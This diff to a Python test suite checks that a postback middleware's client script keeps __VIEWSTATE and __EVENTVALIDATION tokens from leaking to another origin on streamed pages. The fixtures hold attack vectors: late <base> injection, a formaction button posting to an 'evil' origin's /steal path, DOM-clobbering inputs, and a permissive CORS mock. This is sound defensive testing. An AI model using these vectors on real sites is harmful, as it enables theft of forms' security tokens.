@@ -10,6 +10,12 @@ checks the request that leaves the browser (seen by Playwright) and what the oth
 received: the form's own field is there, and neither ``__VIEWSTATE`` nor ``__EVENTVALIDATION``
 is. The positive cases (a same-origin ``<base>``, a
 same-origin ``formaction``) still post back and are verified.
+
+A *streamed* page (the inner app returns a generator) can bring such a ``<base>`` or button in a
+later piece, after its form's tokens were sent: the middleware cannot take them back, so the
+client script checks each submission against the final DOM and leaves the tokens out of one
+that goes elsewhere (native buttons, ``__doPostBack`` links, partial postbacks, callbacks). The
+other origin answers CORS preflights as an attacker would, so a ``fetch`` there would go through.
 """
 
 from __future__ import annotations
@@ -17,7 +23,7 @@ from __future__ import annotations
 import html
 import threading
 import time
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterable, Iterator
 from dataclasses import dataclass, field
 from typing import Any
 from urllib.parse import parse_qsl, urlsplit
@@ -43,18 +49,30 @@ class Received:
     event: tuple[str, str] | None = None  # the verified postback event (the app server only)
 
 
+HEAD = "<!DOCTYPE html><html><head><meta charset=utf-8><title>t</title></head><body>"
+
+
 @dataclass
 class Recorder:
-    """A WSGI app that records its requests; ``pages`` (path -> body HTML) answer GETs."""
+    """A WSGI app that records its requests; ``pages`` (path -> body HTML) answer GETs, and
+    ``streamed`` (path -> the body's two pieces) answer them with a generator (a streamed page).
+    ``cors``: answer every origin's CORS requests and preflights, credentials included."""
 
     pages: dict[str, Callable[[str], str]] = field(default_factory=dict)
+    streamed: dict[str, Callable[[str], tuple[str, str]]] = field(default_factory=dict)
+    cors: bool = False
     seen: list[Received] = field(default_factory=list)
     lock: threading.Lock = field(default_factory=threading.Lock)
     other_origin: str = ""  # filled in once both servers run
 
-    def __call__(self, environ: dict[str, Any], start_response: Any) -> list[bytes]:
+    def __call__(self, environ: dict[str, Any], start_response: Any) -> Iterable[bytes]:
         path = environ.get("PATH_INFO", "")
         query = environ.get("QUERY_STRING", "")
+        cors = [("Access-Control-Allow-Origin", environ.get("HTTP_ORIGIN", "*")),
+                ("Access-Control-Allow-Credentials", "true"),
+                ("Access-Control-Allow-Methods", "GET, POST"),
+                ("Access-Control-Allow-Headers",
+                 environ.get("HTTP_ACCESS_CONTROL_REQUEST_HEADERS", "*"))] if self.cors else []
         if environ["REQUEST_METHOD"] == "POST":
             size = int(environ.get("CONTENT_LENGTH") or 0)
             fields = dict(parse_qsl(environ["wsgi.input"].read(size).decode(),
@@ -65,14 +83,19 @@ class Recorder:
         with self.lock:
             self.seen.append(Received(environ["REQUEST_METHOD"], path, fields,
                                       None if event is None else (event.target, event.argument)))
-        make = self.pages.get(path) if environ["REQUEST_METHOD"] == "GET" and not query else None
+        get = environ["REQUEST_METHOD"] == "GET" and not query
+        headers = [("Content-Type", "text/html; charset=utf-8"), ("Cache-Control", "no-store"),
+                   *cors]
+        pieces = self.streamed.get(path) if get else None
+        if pieces is not None:
+            first, second = pieces(self.other_origin)
+            start_response("200 OK", headers)
+            return (piece.encode() for piece in (HEAD + first, second + "</body></html>"))
+        make = self.pages.get(path) if get else None
         body = make(self.other_origin) if make is not None else (
             f"<p id=answer>{html.escape(environ['REQUEST_METHOD'])} {html.escape(path)}</p>")
-        data = ("<!DOCTYPE html><html><head><meta charset=utf-8><title>t</title></head>"
-                f"<body>{body}</body></html>").encode()
-        start_response("200 OK", [("Content-Type", "text/html; charset=utf-8"),
-                                  ("Content-Length", str(len(data))),
-                                  ("Cache-Control", "no-store")])
+        data = f"{HEAD}{body}</body></html>".encode()
+        start_response("200 OK", [*headers, ("Content-Length", str(len(data)))])
         return [data]
 
     def wait_for(self, method: str, path: str, timeout: float = 10.0) -> Received:
@@ -114,11 +137,48 @@ PAGES: dict[str, Callable[[str], str]] = {
 }
 
 
+PANEL = ('<div id="panel" data-update-panel><a href="#" id="plink" data-postback="refresh" '
+         'data-postback-argument="1">Refresh</a></div>')
+
+
+# controls that shadow the form's properties and methods the check uses (form.action is this
+# input, ...; the prototypes' methods, getAttribute & co., are covered by the clobbering suite)
+CLOBBERING = "".join(f'<input type="hidden" name="{name}" value="/x">' for name in (
+    "action", "method", "target", "elements", "submit", "requestSubmit"))
+
+
+def late_form(action: str, extra: str = "") -> str:
+    """A post form with a postback link, a native submit button, a partial postback (an update
+    panel) and a callback (``Echo``), for the first piece of a streamed page."""
+    return (f'<form id="f1" method="post" action="{action}" data-callbacks="Echo">{FIELD}{LINK}'
+            f'<button id="go">Go</button>{PANEL}{extra}</form>')
+
+
+# path -> (first piece, second piece), given the other origin
+STREAMED: dict[str, Callable[[str], tuple[str, str]]] = {
+    # the tokens leave with the first piece; the second makes "save" resolve to the other origin
+    "/late/base": lambda evil: (late_form("save"), f'<base href="{evil}/landing/">'),
+    "/late/clobbered": lambda evil: (late_form("save", CLOBBERING),
+                                     f'<base href="{evil}/landing/">'),
+    # form="f1" buttons after the form: to the other origin, by GET, to another window
+    "/late/buttons": lambda evil: (
+        late_form("/late/ok"),
+        f'<p><button id="steal" form="f1" formaction="{evil}/steal">Steal</button>'
+        '<button id="get" form="f1" formmethod="get">Get</button>'
+        f'<button id="blank" form="f1" formaction="{evil}/popup" formtarget="_blank">New</button>'
+        '</p>'),
+    # the positive control: the same page, and a harmless second piece
+    "/late/control": lambda evil: (late_form("save"), "<p>more</p>"),
+}
+
+
 @pytest.fixture(scope="module")
 def servers(serve: Any) -> Iterator[tuple[Recorder, str, Recorder, str]]:
     """(the app's recorder, its URL, the other origin's recorder, its URL)."""
-    app, evil = Recorder(pages=PAGES), Recorder()
-    wrapped = PostbackMiddleware(app, secret_keys=[new_key()], registry=Registry())
+    app, evil = Recorder(pages=PAGES, streamed=STREAMED), Recorder(cors=True)
+    registry = Registry()
+    registry.callback("Echo")(lambda argument, request: f"echo:{argument}")
+    wrapped = PostbackMiddleware(app, secret_keys=[new_key()], registry=registry)
     with serve(wrapped) as app_url, serve(evil) as evil_url:
         app.other_origin = evil_url
         yield app, app_url, evil, evil_url
@@ -251,3 +311,171 @@ def test_no_tokens_leave_through_a_base_in_noscript_with_scripting_off(
         assert not set(TOKENS) & set(received.fields)
     finally:
         context.close()
+
+
+# --------------------------------------------------------------------------------------------
+# Streamed pages: the <base> or button arrives after the tokens left; the client script decides
+
+
+def open_streamed(page: Any, servers: tuple[Recorder, str, Recorder, str], path: str,
+                  caplog: pytest.LogCaptureFixture, *, hostile: bool) -> list[Any]:
+    """Load a streamed page; every request the browser sends from then on (popups too)."""
+    response = page.goto(servers[1] + path)
+    assert response.status == 200
+    assert "content-length" not in response.headers  # streamed (chunked)
+    # the form's tokens left with the first piece: the middleware could not withhold them
+    assert all(f'name="{token}"' in response.text() for token in TOKENS)
+    assert ("they cannot be taken back" in caplog.text) is hostile
+    page.wait_for_function("typeof __doPostBack === 'function'")  # the deferred script ran
+    requests: list[Any] = []
+    page.context.on("request", lambda request: requests.append(request))
+    return requests
+
+
+def carries_tokens(request: Any) -> bool:
+    return any(token in (request.post_data or "") + request.url for token in TOKENS)
+
+
+def act(page: Any, action: str) -> None:
+    """Click a selector ("#id"), or run a script."""
+    if action.startswith("#"):
+        page.click(action)
+    else:
+        page.evaluate(action)
+
+
+@pytest.mark.parametrize(
+    ("path", "action", "method", "where"),
+    [
+        pytest.param("/late/base", "#go", "POST", "/landing/save", id="base-native-button"),
+        pytest.param("/late/base", "#link", "POST", "/landing/save", id="base-postback-link"),
+        pytest.param("/late/base", "#plink", "POST", "/landing/save",
+                     id="base-partial-postback"),  # (posted the ordinary way instead)
+        pytest.param("/late/base", "Postback.doPostBack('save', '7')", "POST", "/landing/save",
+                     id="base-Postback.doPostBack"),
+        pytest.param("/late/base", "theForm.requestSubmit()", "POST", "/landing/save",
+                     id="base-requestSubmit-without-submitter"),
+        pytest.param("/late/clobbered", "#go", "POST", "/landing/save",
+                     id="clobbered-base-native-button"),
+        pytest.param("/late/clobbered", "#link", "POST", "/landing/save",
+                     id="clobbered-base-postback-link"),
+        pytest.param("/late/clobbered", "#plink", "POST", "/landing/save",
+                     id="clobbered-base-partial-postback"),
+        pytest.param("/late/buttons", "#steal", "POST", "/steal",
+                     id="form-attribute-button-formaction"),
+        pytest.param("/late/buttons", "#get", "GET", "/late/ok",
+                     id="form-attribute-button-formmethod-get"),
+    ],
+)
+def test_tokens_sent_in_an_earlier_piece_do_not_leave_through_a_later_one(
+    browser_page: Any, servers: tuple[Recorder, str, Recorder, str],
+    recorders: tuple[Recorder, Recorder], caplog: pytest.LogCaptureFixture,
+    path: str, action: str, method: str, where: str,
+) -> None:
+    app_url, evil_url = servers[1], servers[3]
+    origin = app_url if method == "GET" else evil_url
+    requests = open_streamed(browser_page, servers, path, caplog, hostile=True)
+    with browser_page.expect_request(lambda r: r.url.startswith(origin + where)) as submitted:
+        act(browser_page, action)
+    request = submitted.value
+    sent = sent_fields(request)
+    assert not set(TOKENS) & set(sent)
+    assert (request.method, request.resource_type) == (method, "document")
+    assert sent["note"] == "kept"  # the submission itself goes on, without the tokens
+    if method == "POST":
+        received = recorders[1].wait_for(method, where)
+        assert received.fields["note"] == "kept"
+        assert not set(TOKENS) & set(received.fields)
+    else:
+        browser_page.wait_for_url(f"{origin}{where}?**")
+        assert not any(token in browser_page.url for token in TOKENS)
+    # nothing else carried them anywhere either (a partial postback's fetch, say)
+    assert [r.url for r in requests if carries_tokens(r)] == []
+    with recorders[1].lock:
+        assert not any(token in str(r.fields) for r in recorders[1].seen for token in TOKENS)
+
+
+CALLBACKS = {
+    "Postback.callback": "Postback.callback('Echo', 'x').then(r => 'ok:' + r, e => 'error:' + e)",
+    "WebForm_DoCallback": ("new Promise(resolve => WebForm_DoCallback('Echo', 'x', "
+                           "r => resolve('ok:' + r), null, e => resolve('error:' + e), false))"),
+}
+
+
+@pytest.mark.parametrize("call", CALLBACKS.values(), ids=CALLBACKS.keys())
+def test_no_callback_goes_to_another_origin_through_a_later_base(
+    browser_page: Any, servers: tuple[Recorder, str, Recorder, str],
+    recorders: tuple[Recorder, Recorder], caplog: pytest.LogCaptureFixture, call: str,
+) -> None:
+    requests = open_streamed(browser_page, servers, "/late/base", caplog, hostile=True)
+    result = browser_page.evaluate(call)
+    assert [r.url for r in requests] == []  # not sent at all
+    assert not recorders[1].seen
+    assert result == "error:Callback failed: another origin"
+
+
+@pytest.mark.parametrize(
+    ("action", "event", "kind"),
+    [
+        pytest.param("#go", None, "document", id="native-button"),
+        pytest.param("#link", ("save", "7"), "document", id="postback-link"),
+        pytest.param("#plink", ("refresh", "1"), "fetch", id="partial-postback"),
+        pytest.param("Postback.doPostBack('save', '7')", ("save", "7"), "document",
+                     id="Postback.doPostBack"),
+    ],
+)
+def test_a_streamed_page_without_a_hostile_piece_still_posts_back(
+    browser_page: Any, servers: tuple[Recorder, str, Recorder, str],
+    recorders: tuple[Recorder, Recorder], caplog: pytest.LogCaptureFixture,
+    action: str, event: tuple[str, str] | None, kind: str,
+) -> None:
+    app_url = servers[1]
+    open_streamed(browser_page, servers, "/late/control", caplog, hostile=False)
+    with browser_page.expect_request(lambda r: r.method == "POST" and
+                                     r.url.startswith(app_url + "/late/save")) as submitted:
+        act(browser_page, action)
+    assert submitted.value.resource_type == kind
+    assert set(TOKENS) <= set(sent_fields(submitted.value))
+    received = recorders[0].wait_for("POST", "/late/save")  # verified: the app was called
+    assert received.fields["note"] == "kept"
+    assert received.event == event
+    assert not recorders[1].seen
+
+
+def test_a_streamed_page_without_a_hostile_piece_still_calls_back(
+    browser_page: Any, servers: tuple[Recorder, str, Recorder, str],
+    recorders: tuple[Recorder, Recorder], caplog: pytest.LogCaptureFixture,
+) -> None:
+    open_streamed(browser_page, servers, "/late/control", caplog, hostile=False)
+    for call in CALLBACKS.values():
+        assert browser_page.evaluate(call) == "ok:echo:x"
+
+
+@pytest.mark.parametrize("withheld", ["formtarget-blank", "cancelled-by-the-page"])
+def test_after_a_withheld_submission_postbacks_still_carry_the_tokens(
+    browser_page: Any, servers: tuple[Recorder, str, Recorder, str],
+    recorders: tuple[Recorder, Recorder], caplog: pytest.LogCaptureFixture, withheld: str,
+) -> None:
+    app_url, evil_url = servers[1], servers[3]
+    page = browser_page
+    requests = open_streamed(page, servers, "/late/buttons", caplog, hostile=True)
+    if withheld == "formtarget-blank":  # another window: this page stays
+        with page.context.expect_event(
+                "request", lambda r: r.url.startswith(evil_url + "/popup")) as popup:
+            page.click("#blank")
+        assert sent_fields(popup.value)["note"] == "kept"
+        assert not set(TOKENS) & set(sent_fields(popup.value))
+        assert not set(TOKENS) & set(recorders[1].wait_for("POST", "/popup").fields)
+    else:  # the page's own handler cancels it: nothing is sent
+        page.evaluate("document.addEventListener('submit', e => e.preventDefault())")
+        page.click("#steal")
+    assert [r.url for r in requests if carries_tokens(r)] == []
+    with page.expect_request(lambda r: r.method == "POST" and
+                             r.url.startswith(app_url + "/late/ok")) as submitted:
+        page.click("#link")
+    assert set(TOKENS) <= set(sent_fields(submitted.value))
+    received = recorders[0].wait_for("POST", "/late/ok")  # verified: the app was called
+    assert received.event == ("save", "7")
+    page.wait_for_selector("#answer")
+    assert page.inner_text("#answer") == "POST /late/ok"
+    assert not [r for r in recorders[1].seen if r.path == "/steal"]
